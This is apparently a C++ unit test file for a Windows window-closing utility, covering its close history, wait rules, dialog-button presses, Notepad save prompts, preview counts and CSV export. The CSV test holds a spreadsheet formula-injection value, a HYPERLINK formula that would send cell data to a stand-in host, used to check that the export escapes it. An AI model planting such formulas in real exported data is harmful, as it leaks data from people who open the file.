// The close history (each request followed to its outcome, the last 1,000
// kept newest first), its window and the preview of the add and edit dialogs.
#include <gtest/gtest.h>

#include <algorithm>

#include "resources/resource.h"
#include "tests/unit/fake_dialogs.h"

namespace qw {
namespace {

const std::string kAsked = "Closing\xE2\x80\xA6", kDash = " \xE2\x80\x94 ";

struct History : ::testing::Test, FrmWorld {
    CloseHistory& history = *frm.History();
    ClosedWindows& closed = *frm.Closed();

    // A tick of each timer, `later` ms on.
    void Pass(std::int64_t later = 0) {
        clock.milliseconds += later;
        frm.ReInitCloseTmr_Timer();
        frm.Tm_Timer();
        frm.HistoryCheckTmr_Timer();
    }
    Strings Column(int column) {
        Strings cells;
        for (int row = 0; row < static_cast<int>(history.Rows().size()); ++row) cells.push_back(closed.Cell(row, column));
        return cells;
    }
};

// Gone (or hidden by its program) within 2 s: "Closed"; there after 2 s:
// "Still open", "Closed" should it go while still asked; refused by Windows:
// "Refused"; a program that does not answer is not asked, not recorded. A
// window asked again keeps its row; the entry is the first in list order; the
// program is that of a window that went at once too.
TEST_F(History, EachRequestIsFollowedToItsOutcome) {
    closed.Form_Load();
    frm.lv().Assign({"zzzzz", "offer", "daily"});
    windows.Add(1, "Special daily offer").program = "browser.exe";
    windows.onPost = [&](WindowHandle w, unsigned message) {
        if (w == 1 && message == kWmClose) windows.Remove(1);
    };
    windows.Add(2, "Offer that asks a question");
    windows.Add(3, "Offer as admin").elevated = true;
    windows.Add(4, "Offer not answering").hung = true;
    windows.Add(5, "Daily news");
    Pass();
    EXPECT_EQ(std::make_tuple(Column(4), check.IsRunning()),
              std::make_tuple(Strings{kAsked, "Refused", kAsked, "Closed"}, true));
    windows.windows[3].visible = false;
    const int shown = historyView.shown;
    Pass(1999);
    EXPECT_EQ(Column(1), (Strings{"Daily news", "Offer as admin", "Offer that asks a question", "Special daily offer"}));
    EXPECT_EQ(Column(2), (Strings{"daily", "offer", "offer", "offer"}));
    EXPECT_EQ(Column(3)[3], "browser.exe");
    EXPECT_EQ(Column(4), (Strings{"Closed", "Refused", kAsked, "Closed"}));
    EXPECT_EQ(std::make_pair(closed.Cell(0, 0), historyView.shown), std::make_pair(std::string("2024-05-31 14:03:07"), shown + 1));
    Pass(1);
    EXPECT_EQ(Column(4)[2], "Still open");
    Pass(400);
    windows.Remove(2);  // its user answered the question
    frm.HistoryCheckTmr_Timer();
    EXPECT_EQ(std::make_pair(Column(4)[2], check.IsRunning()), std::make_pair(std::string("Closed"), false));
}

// Each action's requests and what the history says of them, 0 s and 2.5 s on
// (the window stays unless it goes when asked): a button pressed as a click
// tells its dialog, its caption's "&" and case ignored; a window without it
// left alone and noted once; minimized once; a program ended 2 s after its
// window was asked, unless Windows refuses, or it is Windows' own; a record
// and nothing sent. Windows refuses what is sent to a program running as
// administrator.
TEST_F(History, EachActionSendsWhatItSaysAndIsFollowed) {
    using P = MemoryWindows::Posted;
    const auto with = [](EntryAction action, const char* button = "") {
        EntryOptions options;
        options.action = action;
        options.button = button;
        return options;
    };
    const std::uintptr_t clickNo = 7;  // BN_CLICKED (0) above the button's id
    const struct {
        const char* what;
        EntryOptions options;
        std::function<void(FakeWindow&)> set;
        std::vector<P> posts;
        Strings outcomes;  // at once, 2.5 s on
        std::vector<std::uint32_t> ended = {};
    } cases[] = {
        {"press No", with(EntryAction::kPress, "no"), {}, {{1, kWmCommand, clickNo, 0x71}}, {"Pressed no", "Still open"}},
        {"press &No, which closes it", with(EntryAction::kPress, "&No"), [](FakeWindow& w) { w.title += " "; },
         {{1, kWmCommand, clickNo, 0x71}}, {"Closed", "Closed"}},
        {"press a button it lacks", with(EntryAction::kPress, "Cancel"), {}, {}, {"No button Cancel", "No button Cancel"}},
        {"press a button that comes later", with(EntryAction::kPress, "No"), [](FakeWindow& w) { w.title += "+"; },
         {{1, kWmCommand, clickNo, 0x71}}, {"No button No", "Still open"}},
        {"press as administrator", with(EntryAction::kPress, "No"), [](FakeWindow& w) { w.elevated = true; }, {},
         {"Refused", "Refused"}},
        {"minimize", with(EntryAction::kMinimize), {}, {{1, kWmSysCommand, kScMinimize, 0}}, {"Minimized", "Minimized"}},
        {"end", with(EntryAction::kEnd), [](FakeWindow& w) { w.processId = 77; },
         {{1, kWmCancelMode}, {1, kWmClose}}, {kAsked, "Program ended"}, {77}},
        {"end a program whose window asks its user first", with(EntryAction::kEnd),
         [](FakeWindow& w) { w.title += "!"; }, {{1, kWmCancelMode}, {1, kWmClose}}, {kAsked, "Still open"}},
        {"end a protected program", with(EntryAction::kEnd), [](FakeWindow& w) { w.protectedProcess = true; },
         {{1, kWmCancelMode}, {1, kWmClose}}, {kAsked, "Refused"}},
        {"end Windows' own", with(EntryAction::kEnd), [](FakeWindow& w) { w.program = "svchost.exe"; },
         {{1, kWmCancelMode}, {1, kWmClose}}, {kAsked, "Still open"}},
        {"record", with(EntryAction::kRecord), {}, {}, {"Recorded", "Recorded"}},
        {"close", with(EntryAction::kClose), {}, {{1, kWmCancelMode}, {1, kWmClose}}, {kAsked, "Still open"}},
    };
    for (const auto& c : cases) {
        FrmWorld w;
        w.frm.Closed()->Form_Load();
        w.frm.lv().Assign({"Save changes"}, {c.options});
        FakeWindow& dialog = w.windows.Add(1, "Save changes?");
        dialog.className = "#32770";
        dialog.buttons = {{0x70, 6, "&Yes"}, {0x71, 7, "&No"}, {0x72, 8, "Help", false}};
        if (c.set) c.set(dialog);
        // A title ending in a blank stands for a dialog the press closes; one
        // ending in "!", for a window that asks its user before it closes.
        if (dialog.title.back() == ' ') w.windows.onPost = [&](WindowHandle h, unsigned) { w.windows.Remove(h); };
        if (dialog.title.back() == '!')
            w.windows.onPost = [&](WindowHandle, unsigned m) { w.windows.windows[0].enabled = m != kWmClose; };
        // One ending in "+" gets its buttons after the first pass.
        const auto buttons = dialog.buttons;
        if (dialog.title.back() == '+') dialog.buttons.clear();
        const auto pass = [&](std::int64_t later) {
            w.clock.milliseconds += later;
            w.frm.ReInitCloseTmr_Timer();
            w.frm.Tm_Timer();
            w.frm.HistoryCheckTmr_Timer();
        };
        pass(0);
        const std::string first = w.frm.Closed()->Cell(0, 4);
        const int drawn = w.historyView.shown;
        for (FakeWindow& still : w.windows.windows) still.buttons = buttons;  // unless the press closed it
        for (int i = 0; i < 3; ++i) pass(500);  // asked again by the 500 ms rule where it stays
        EXPECT_TRUE(w.windows.ended.empty()) << c.what;  // not before 2 s
        for (int i = 0; i < 2; ++i) pass(500);
        const std::vector<P> once(w.windows.posts.begin(),
                                  w.windows.posts.begin() + std::min(w.windows.posts.size(), c.posts.size()));
        EXPECT_EQ(once, c.posts) << c.what;
        EXPECT_EQ((Strings{first, w.frm.Closed()->Cell(0, 4)}), c.outcomes) << c.what;
        EXPECT_EQ(w.frm.History()->Rows().size(), 1u) << c.what;  // one row, however often
        EXPECT_EQ(w.windows.ended, c.ended) << c.what;
        // A row that says the same is not drawn again at every pass.
        const bool same = c.outcomes[0] == c.outcomes[1];
        EXPECT_TRUE(!same || w.historyView.shown == drawn) << c.what;
        // A press is repeated while its dialog stays; a minimize is not.
        const bool pressesAgain = c.posts.size() == 1 && c.posts[0].message == kWmCommand && w.windows.Find(1);
        EXPECT_TRUE(!pressesAgain || w.windows.posts.size() > 1u) << c.what;
        const bool minimizes = c.posts.size() == 1 && c.posts[0].message == kWmSysCommand;
        EXPECT_TRUE(!minimizes || w.windows.posts.size() == 1u) << c.what;
    }
}

// An entry's wait: the window must match that long before anything is sent;
// the history says "Waiting" meanwhile. One that goes, or is renamed, is not
// acted on; a window acted on after its wait is not made to wait again.
TEST_F(History, AWaitComesBeforeAnyAction) {
    closed.Form_Load();
    EntryOptions waits;
    waits.delay = 1500;
    frm.lv().Assign({"special offer"}, {waits});
    windows.Add(1, "Special offer - stays");
    windows.Add(2, "Special offer - goes");
    windows.Add(3, "Special offer - renamed");
    windows.Add(4, "Special offer - retitled");
    Pass();
    EXPECT_EQ(Column(4), (Strings{"Waiting", "Waiting", "Waiting", "Waiting"}));
    Pass(800);
    windows.Remove(2);
    windows.windows[1].title = "Nothing to see";
    windows.windows[2].title = "Special offer - again";  // still matching: its wait begins again
    Pass(699);
    EXPECT_TRUE(windows.posts.empty());
    EXPECT_EQ(Column(4), (Strings{"Waiting", "Not acted on", "Not acted on", "Not acted on", "Waiting"}));
    Pass(1);
    EXPECT_EQ(windows.Closed(), Handles{1});
    EXPECT_EQ(Column(4), (Strings{"Waiting", "Not acted on", "Not acted on", "Not acted on", kAsked}));
    Pass(500);  // asked again by the 500 ms rule, not made to wait
    EXPECT_EQ(windows.Closed(), (Handles{1, 1}));
    Pass(999);  // the renamed window's wait began at the pass that saw its new title
    EXPECT_EQ(windows.Closed(), (Handles{1, 1, 1, 4}));
    EXPECT_EQ(history.Rows().size(), 5u);
}

// The question a window asks when the scan asks it to close is left to its
// user, unless an entry names a button of it: pressing "No" answers as the
// user would, where a close would answer Cancel.
TEST_F(History, AnEntryNamingAButtonAnswersTheQuestionOfAWindowAsked) {
    closed.Form_Load();
    EntryOptions pressNo;
    pressNo.title = TitleRule::kExact;
    pressNo.action = EntryAction::kPress;
    pressNo.button = "No";
    frm.lv().Assign({"Untitled - Notepad", "Notepad"}, {EntryOptions(), pressNo});
    windows.Add(1, "Untitled - Notepad");
    windows.onPost = [&](WindowHandle w, unsigned message) {
        if (w == 1 && message == kWmClose) {
            windows.windows[0].enabled = false;
            FakeWindow& box = windows.Add(2, "Notepad");
            box.popup = true, box.owner = 1, box.className = "#32770";
            box.buttons = {{0x70, 6, "&Yes"}, {0x71, 7, "&No"}, {0x72, 2, "Cancel"}};
        } else if (w == 2 && message == kWmCommand) {
            windows.Remove(2);
            windows.Remove(1);  // closed without saving
        }
    };
    Pass();
    Pass(15);
    EXPECT_TRUE(windows.windows.empty());
    EXPECT_EQ(windows.posts.back(), (MemoryWindows::Posted{2, kWmCommand, 7, 0x71}));
    Pass(2000);
    EXPECT_EQ(Column(4), (Strings{"Closed", "Closed"}));
}

// Notepad with unsaved text answers a request with "Save changes?", a box
// titled "Notepad" that disables its window until answered; that box's
// message loop takes every further request and puts up another box inside
// it. A disabled window is not asked, nor one asked less than 500 ms ago
// (another listed window's close frees its title at the next tick, before a
// busy Notepad took the first request); the question of a window the scan
// asked is the user's to answer, though the entry matches it: one box at a
// time, its row "Still open". Answered Cancel, the window is asked again;
// "Don't Save", it goes. A box a window shows over itself unasked (a nag
// screen) is closed, as is a window owned by one asked that is not disabled.
TEST_F(History, AWindowThatAsksItsOwnQuestionIsAskedOnceAtATime) {
    frm.lv().Assign({"notepad", "register now"});
    Handles boxes;
    int queued = 0;  // requests waiting in Notepad's queue
    const auto owned = [&](WindowHandle w, WindowHandle owner, const std::string& title) -> FakeWindow& {
        FakeWindow& box = windows.Add(w, title);
        box.popup = true, box.owner = owner;
        return box;
    };
    const auto asks = [&](WindowHandle w) {
        const Handles closes = windows.Closed();
        return std::count(closes.begin(), closes.end(), w);
    };
    windows.onPost = [&](WindowHandle w, unsigned message) {
        if (message == kWmClose && w == 1) ++queued;
        else if (message == kWmClose && w != 5) windows.Remove(w);  // gone at once; 5 ignores requests
    };
    // Two ticks go by before Notepad takes its requests.
    const auto tick = [&] {
        Pass(300);
        clock.milliseconds += 15;
        frm.Tm_Timer();
        for (; queued > 0; --queued) {
            boxes.push_back(owned(0x50 + boxes.size(), 1, "Notepad").handle);
            for (FakeWindow& w : windows.windows) w.enabled = w.enabled && w.handle != 1;
        }
    };
    windows.Add(1, "Untitled - Notepad").program = "notepad.exe";
    windows.Add(2, "Shareware").enabled = false;
    owned(3, 2, "Register now!");
    windows.Add(5, "Register now - it ignores requests");
    for (int i = 0; i < 8; ++i) tick();
    EXPECT_EQ(std::make_tuple(asks(1), asks(3), boxes), std::make_tuple(1, 1, Handles{0x50}));
    EXPECT_EQ(Column(4), (Strings{"Still open", "Closed", "Still open"}));
    frm.OnCommand(IDC_LADD);  // the preview leaves the question out too, not the window
    addItemView.text = "notepad";
    add.PreviewTmr_Timer();
    EXPECT_EQ(addLine.text, "Would close now: 1 window" + kDash + "Untitled - Notepad (notepad.exe)");
    windows.windows[0].enabled = true;  // Cancel
    windows.Remove(0x50);
    owned(4, 1, "Find in Notepad");
    std::rotate(windows.windows.begin(), windows.windows.end() - 1, windows.windows.end());  // above its owner
    tick();
    EXPECT_EQ(std::make_tuple(asks(1), asks(4), boxes), std::make_tuple(2, 1, Handles{0x50, 0x51}));
    for (WindowHandle gone : {WindowHandle{0x51}, WindowHandle{1}}) windows.Remove(gone);  // Don't Save
    tick();
    EXPECT_EQ(Column(1), (Strings{"Untitled - Notepad", "Find in Notepad", "Register now - it ignores requests",
                                  "Register now!", "Untitled - Notepad"}));
    EXPECT_EQ(Column(4), (Strings{"Closed", "Closed", "Still open", "Closed", "Still open"}));
    // Its handle, given to a new window with a nag screen of its own.
    windows.Add(1, "Shareware").enabled = false;
    owned(0x60, 1, "Register now, please");
    tick();
    EXPECT_EQ(asks(0x60), 1);
}

// The last 1,000, newest first; every menu item opens the window, which
// follows them while open, its selection staying with its row.
TEST_F(History, KeepsTheLastThousandNewestFirst) {
    for (int id : {IDM_CLOSEDWINDOWS, IDM_CLOSEDWINDOWS1, IDM_CLOSEDWINDOWS2}) {
        historyView.open = false;
        EXPECT_TRUE(frm.OnCommand(id) && historyView.open);
    }
    closed.Form_Load();
    for (int i = 1; i <= 1001; ++i) {
        history.Asked(static_cast<WindowHandle>(i), "Window " + std::to_string(i), "Window", "", true);
        if (i == 3) historyView.selected = 1;  // "Window 2"
    }
    EXPECT_EQ(std::make_tuple(historyView.rows, closed.Cell(0, 1), closed.Cell(999, 1), historyView.selected),
              std::make_tuple(1000, std::string("Window 1001"), std::string("Window 2"), 999));
    history.Asked(1002, "Window 1002", "Window", "", true);  // the selected row goes
    EXPECT_EQ(historyView.selected, -1);
    closed.Clear_Click();
    closed.Form_Unload();
    history.Asked(1, "Window 1", "Window", "", true);
    EXPECT_EQ(std::make_pair(historyView.rows, history.Rows().size()), std::make_pair(0, std::size_t{1}));
}

// "Remove Entry" asks as "Remove Item" does; a double click selects the entry
// in the main window. Either finds an entry whose case changed since, and
// says so when no row is chosen or its entry has gone.
TEST_F(History, RemoveEntryAndDoubleClickFindTheRowsEntry) {
    SeedList({"Daily offer", "Weekly news"});
    frm.RefreshL_Click();
    for (const char* entry : {"daily offer", "Weekly news", "gone entry"}) history.Asked(1, "A title", entry, "", true);
    frm.OnCommand(IDM_CLOSEDWINDOWS);
    process.answers = {kIdOk, kIdOk, kIdCancel, kIdOk};
    for (int row : {-1, 0, 2, 2}) {
        historyView.selected = row;
        closed.RemoveEntry_Click();
    }
    const WindowHandle at = historyView.handle;
    EXPECT_EQ(FactsOf(process.boxes),
              (Boxes{{kMustSelect, "Error", 0x10000u, at},
                     {"\"gone entry\" is no longer in the window list.", "Quellwatch", 0x10040u, at},
                     {"Remove Entry: Daily offer ?", "Are you sure?", 0x10121u, at},
                     {"Remove Entry: Daily offer ?", "Are you sure?", 0x10121u, at}}));
    EXPECT_EQ(StoredList(), Strings{"Weekly news"});
    closed.Rows_DblClick(-1);  // below the rows
    closed.Rows_DblClick(1);
    EXPECT_EQ(std::make_tuple(box.selection, view.log, process.boxes.size()),
              std::make_tuple(0, Strings{"show", "front"}, std::size_t{4}));
}

// CSV: a byte-order mark, a header, CR LF, quotes only around a field that
// needs them, its quotes doubled, an apostrophe before a field that a
// spreadsheet would run as a formula; written whole through a temporary file.
TEST_F(History, SaveAsWritesRfc4180Csv) {
    const std::deque<CloseRecord> rows = {
        {{2024, 1, 2, 3, 4, 5}, "Plain", "plain\nentry", "a.exe", CloseOutcome::kClosed},
        {{2024, 12, 31, 23, 59, 59}, "Offer, \"today\"\r\nonly", u8"Привет, мир", "", CloseOutcome::kStillOpen},
        {{2024, 1, 2, 3, 4, 5}, "=HYPERLINK(\"http://x.test/?\"&A1,\"Click\")", "+1 offer", "@a.exe", CloseOutcome::kClosed},
        {{2024, 1, 2, 3, 4, 5}, "-1 offer", "\tOffer", "\rOffer", CloseOutcome::kRefused},
        {{2024, 1, 2, 3, 4, 5}, "Offer =1+1", "'=1+1", " =1+1", CloseOutcome::kRefused}};
    EXPECT_EQ(HistoryCsv(rows), "\xEF\xBB\xBFTime,Title,Entry,Program,Outcome\r\n"
                                "2024-01-02 03:04:05,Plain,\"plain\nentry\",a.exe,Closed\r\n"
                                "2024-12-31 23:59:59,\"Offer, \"\"today\"\"\r\nonly\",\"" u8"Привет, мир" "\",,Still open\r\n"
                                "2024-01-02 03:04:05,\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"Click\"\")\",'+1 offer,'@a.exe,Closed\r\n"
                                "2024-01-02 03:04:05,'-1 offer,'\tOffer,\"'\rOffer\",Refused\r\n"
                                "2024-01-02 03:04:05,Offer =1+1,'=1+1, =1+1,Refused\r\n");
    history.Asked(1, "Plain", "plain", "", true);
    frm.OnCommand(IDM_CLOSEDWINDOWS);
    dialogs.answers = {"", "C:\\history.csv", "C:\\history.csv"};
    closed.SaveAs_Click();
    closed.SaveAs_Click();
    const FileDialogRequest& request = dialogs.shown[0].second;
    EXPECT_EQ(std::tie(request.owner, request.flags, request.defaultExtension),
              std::make_tuple(historyView.handle, 0x80Eu, std::string("csv")));
    EXPECT_EQ(files.files["C:\\history.csv"], HistoryCsv(history.Rows()));
    files.FailAt(1, MemoryFiles::kReplace);
    closed.SaveAs_Click();
    EXPECT_EQ(std::make_pair(files.files.size(), BoxTexts()),
              std::make_pair(std::size_t{1}, Strings{"Cannot write the closed windows to\r\nC:\\history.csv"}));
}

// The preview counts what the scan would close (not the program's own
// windows, hidden ones, popups owned by the program or the desktop), from
// five characters on, with a caution past five windows. Typing refreshes it
// 150 ms after the last key; a pick, a drop of the crosshair, a refresh of
// the list and opening the edit dialog at once.
TEST_F(History, PreviewCountsByTheScansRulesAfterItsDelay) {
    windows.Add(kMain, "Offer in the main window");
    windows.Add(1, "Daily OFFER");
    windows.Add(2, "Hidden offer", false);
    FakeWindow& ours = windows.Add(3, "Offer of ours");
    ours.popup = true, ours.owner = kMain;
    FakeWindow& elsewhere = windows.Add(4, "Offer on another desktop");
    elsewhere.cloaked = kDwmCloakedShell, elsewhere.otherDesktop = true;
    windows.Add(5, "Program Manager");
    windows.Add(6, "Offer (Not Responding)").className = "Ghost";
    windows.Add(7, "Search offers").cloaked = kDwmCloakedShell;
    frm.OnCommand(IDC_LADD);
    const std::pair<const char*, std::string> cases[] = {
        {"offr", kPreviewTooShort}, {"program manager", "Would close now: nothing"},
        {"daily", "Would close now: 1 window" + kDash + "Daily OFFER"},
        {"offer", "Would close now: 2 windows" + kDash + "Daily OFFER; Offer on another desktop"}};
    for (const auto& [typed, line] : cases) {
        addItemView.text = typed;
        add.win_name_Change();
        add.win_name_Change();
        EXPECT_EQ(std::make_tuple(addLine.text != line, addDelay.IsRunning()), std::make_tuple(true, true)) << typed;
        add.PreviewTmr_Timer();
        EXPECT_EQ(std::make_tuple(addLine.text, addDelay.IsRunning()), std::make_tuple(line, false));
    }
    // The titles of hidden windows and of the program's own are not even read.
    EXPECT_EQ(std::make_pair(windows.calls[2].text, windows.calls[kMain].text), std::make_pair(0, 0));
    for (WindowHandle w = 10; w < 14; ++w) windows.Add(w, "Offer " + std::to_string(w));
    add.RefreshWndwList_Click();
    EXPECT_EQ(std::make_pair(addLine.text.substr(0, 26), addLine.caution), std::make_pair(std::string("Would close now: 6 windows"), true));
    const std::string one = "Would close now: 1 window" + kDash + "Daily OFFER";
    add.WndwList_Click(0);
    EXPECT_EQ(std::make_pair(addLine.text, addLine.caution), std::make_pair(one, false));
    addLine.text.clear();
    windows.underPointer = 1;
    add.Target_MouseUp();
    EXPECT_EQ(addLine.text, one);
    frm.lv().Assign({"Weekly news"});
    box.selection = 0;
    frm.OnCommand(IDC_EDITENTRY);
    EXPECT_EQ(editLine.text, "Would close now: nothing");
}

}  // namespace
}  // namespace qw
